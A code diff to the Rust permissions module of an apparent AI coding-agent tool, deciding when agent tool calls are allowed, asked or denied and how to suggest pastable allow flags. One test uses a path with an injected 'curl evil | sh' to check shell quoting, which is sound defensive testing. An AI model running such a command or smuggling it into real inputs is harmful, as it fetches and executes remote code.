@@ -1,11 +1,12 @@
 //! What an agent may do, by the rules of the configuration.
 //!
 //! The last rule that matches decides, as users of OpenCode know it. Without a rule, tools that only read may do so inside
-//! the project, and everything else is denied.
+//! the project, and everything else is asked: where no person can be asked, that is a denial.
 
 use std::path::{Path, PathBuf};
 
 use plimsoll_config::{Action, Origin, PermissionRule, Permissions, matches};
+use serde_json::Value;
 use thiserror::Error;
 
 /// What a tool does to the world.
@@ -33,6 +34,22 @@ pub enum Subject {
     },
     /// A command line of a shell.
     Command(String),
+    /// An address on the network.
+    Address(String),
+}
+
+impl Subject {
+    /// What it is about, as a person is shown it.
+    pub(crate) fn words(&self) -> Option<String> {
+        match self {
+            Subject::None => None,
+            Subject::Path { named, real } if named == real => Some(real.display().to_string()),
+            Subject::Path { named, real } => {
+                Some(format!("{} (which is {})", named.display(), real.display()))
+            }
+            Subject::Command(text) | Subject::Address(text) => Some(text.clone()),
+        }
+    }
 }
 
 /// Why a text is no rule.
@@ -74,6 +91,8 @@ pub fn parse_allow(text: &str, home: Option<&Path>) -> Result<PermissionRule, Ba
 }
 
 /// Whether a call may be made.
+///
+/// A search reads files, so what a rule says of `read` holds for `grep` too.
 pub(crate) fn decide(
     permissions: &Permissions,
     tool: &str,
@@ -82,33 +101,104 @@ pub(crate) fn decide(
     project: &Path,
 ) -> Action {
     let call = Call { tool, subject, project };
-    match (permissions.rules.iter().rev().find(|rule| call.fits(rule)), access) {
+    let found = match (call.rule(permissions), access) {
         (Some(rule), _) => rule.action,
         (None, Access::Session) => Action::Allow,
         (None, Access::Read) if !call.is_outside() => Action::Allow,
-        (None, Access::Read | Access::Act) => Action::Deny,
+        (None, Access::Read | Access::Act) => Action::Ask,
+    };
+    if tool == "grep"
+        && let Some(reading) = (Call { tool: "read", ..call }).rule(permissions)
+    {
+        return stricter(found, reading.action);
     }
+    found
+}
+
+/// The one of two that lets less happen.
+pub(crate) fn stricter(one: Action, other: Action) -> Action {
+    let weight = |action| match action {
+        Action::Allow => 0,
+        Action::Ask => 1,
+        Action::Deny => 2,
+    };
+    if weight(one) >= weight(other) { one } else { other }
 }
 
 /// Whether a rule says that such a call is not made, or only when a person agrees.
 pub(crate) fn is_denied(permissions: &Permissions, tool: &str, subject: &Subject, project: &Path) -> bool {
     let call = Call { tool, subject, project };
-    let rule = permissions.rules.iter().rev().find(|rule| call.fits(rule));
-    rule.is_some_and(|rule| rule.action != Action::Allow)
+    call.rule(permissions).is_some_and(|rule| rule.action != Action::Allow)
 }
 
-/// What `--allow` would have to say so that such a call is made.
-pub(crate) fn flag_for(tool: &str, access: Access, subject: &Subject) -> String {
+/// Why a call without a rule is asked, in words for a person.
+pub(crate) fn reason_to_ask(access: Access, subject: &Subject, project: &Path) -> &'static str {
     match (access, subject) {
-        (Access::Read, Subject::Path { real, .. }) => {
-            let below = if real.is_dir() { "/*" } else { "" };
-            format!("--allow {}", shell_quoted(&format!("{tool}:{}{below}", real.display())))
+        (_, Subject::Path { .. }) if (Call { tool: "", subject, project }).is_outside() => {
+            "it lies outside the project"
         }
-        (_, Subject::Command(command)) if is_simple(command) => {
-            let word = command.split_whitespace().next().unwrap_or("*");
-            format!("--allow {}", shell_quoted(&format!("{tool}:{word} *")))
+        (Access::Act, Subject::Command(_)) => "it runs a command",
+        (Access::Act, Subject::Path { .. }) => "it changes a file",
+        (Access::Act, Subject::Address(_)) => "it fetches from the network",
+        (Access::Act, Subject::None) => "it acts outside this program",
+        (Access::Read | Access::Session, _) => "a rule says that it is asked",
+    }
+}
+
+/// The narrowest rule that would allow such calls and is worth remembering.
+pub(crate) fn rule_for(tool: &str, subject: &Subject, project: &Path) -> PermissionRule {
+    let pattern = match subject {
+        Subject::Path { real, .. } => {
+            let inside = real.strip_prefix(project).unwrap_or(real).display().to_string();
+            match (real.is_dir(), inside.is_empty()) {
+                (true, false) => format!("{inside}/*"),
+                (_, true) => "*".into(),
+                (false, false) => inside,
+            }
         }
-        _ => format!("--allow {tool}"),
+        Subject::Command(command) if is_simple(command) => {
+            format!("{} *", command.split_whitespace().next().unwrap_or("*"))
+        }
+        Subject::Address(address) => match address.split_once("://") {
+            // An address without a path is meant with all of its pages.
+            Some((scheme, rest)) => {
+                format!("{scheme}://{}/*", rest.split(['/', '?', '#']).next().unwrap_or(rest))
+            }
+            None => address.clone(),
+        },
+        Subject::Command(_) | Subject::None => "*".into(),
+    };
+    let origin = Origin::Flag("--allow");
+    PermissionRule { tool: tool.to_owned(), pattern, action: Action::Allow, origin }
+}
+
+/// What a person would have to write to allow such calls.
+pub(crate) struct AllowHint {
+    /// As a flag.
+    pub(crate) flag: String,
+    /// As a line of `plimsoll.toml`.
+    pub(crate) setting: String,
+}
+
+impl AllowHint {
+    pub(crate) fn of(rule: &PermissionRule) -> AllowHint {
+        let PermissionRule { tool, pattern, .. } = rule;
+        let quoted = |text: &str| Value::String(text.to_owned()).to_string();
+        let key = if tool.chars().all(|c| c.is_ascii_alphanumeric() || "_-".contains(c)) {
+            tool.clone()
+        } else {
+            quoted(tool)
+        };
+        match pattern.as_str() {
+            "*" => AllowHint {
+                flag: format!("--allow {tool}"),
+                setting: format!("permissions.{key} = \"allow\""),
+            },
+            _ => AllowHint {
+                flag: format!("--allow {}", shell_quoted(&format!("{tool}:{pattern}"))),
+                setting: format!("permissions.{key}.{} = \"allow\"", quoted(pattern)),
+            },
+        }
     }
 }
 
@@ -117,6 +207,7 @@ fn shell_quoted(text: &str) -> String {
     format!("'{}'", text.replace('\'', "'\\''"))
 }
 
+#[derive(Clone, Copy)]
 struct Call<'a> {
     tool: &'a str,
     subject: &'a Subject,
@@ -124,6 +215,11 @@ struct Call<'a> {
 }
 
 impl Call<'_> {
+    /// The rule that decides.
+    fn rule<'p>(&self, permissions: &'p Permissions) -> Option<&'p PermissionRule> {
+        permissions.rules.iter().rev().find(|rule| self.fits(rule))
+    }
+
     /// Whether a path fits a pattern, as a path of the project or as a whole.
     fn path_fits(&self, pattern: &str, path: &Path) -> bool {
         let inside = path.strip_prefix(self.project).ok();
@@ -157,6 +253,7 @@ impl Call<'_> {
                 (by_tool || rule.tool == OUTSIDE) && self.path_fits(&rule.pattern, real)
             }
             Subject::Path { real, .. } => names_tool && self.path_fits(&rule.pattern, real),
+            Subject::Address(address) => names_tool && matches(&rule.pattern, address),
             Subject::Command(command) => {
                 let command = command.trim();
                 let fits = matches(&rule.pattern, command);
@@ -192,7 +289,7 @@ mod tests {
 
     use plimsoll_config::{Action, Permissions};
 
-    use super::{Access, Subject, decide, flag_for, parse_allow};
+    use super::{Access, AllowHint, Subject, decide, parse_allow, rule_for};
 
     fn allowed(rules: &[&str], tool: &str, access: Access, subject: &Subject) -> bool {
         let permissions =
@@ -266,12 +363,17 @@ mod tests {
     #[test]
     fn the_flag_that_is_suggested_can_be_pasted() {
         let evil = path("/tmp/a'; curl evil | sh; '/b");
+        let hint = |tool, subject: &Subject| AllowHint::of(&rule_for(tool, subject, Path::new("/project")));
+        assert_eq!(hint("read", &evil).flag, "--allow 'read:/tmp/a'\\''; curl evil | sh; '\\''/b'");
+        assert_eq!(hint("bash", &command("cargo test -q")).flag, "--allow 'bash:cargo *'");
         assert_eq!(
-            flag_for("read", Access::Read, &evil),
-            "--allow 'read:/tmp/a'\\''; curl evil | sh; '\\''/b'"
+            hint("bash", &command("cargo test -q")).setting,
+            "permissions.bash.\"cargo *\" = \"allow\""
         );
-        assert_eq!(flag_for("bash", Access::Act, &command("cargo test -q")), "--allow 'bash:cargo *'");
-        assert_eq!(flag_for("bash", Access::Act, &command("a; b")), "--allow bash");
+        assert_eq!(hint("bash", &command("a; b")).flag, "--allow bash");
+        assert_eq!(hint("write", &path("/project/src/a.rs")).flag, "--allow 'write:src/a.rs'");
+        let page = Subject::Address("https://example.org/a?b=c".into());
+        assert_eq!(hint("webfetch", &page).flag, "--allow 'webfetch:https://example.org/*'");
     }
 
     #[test]
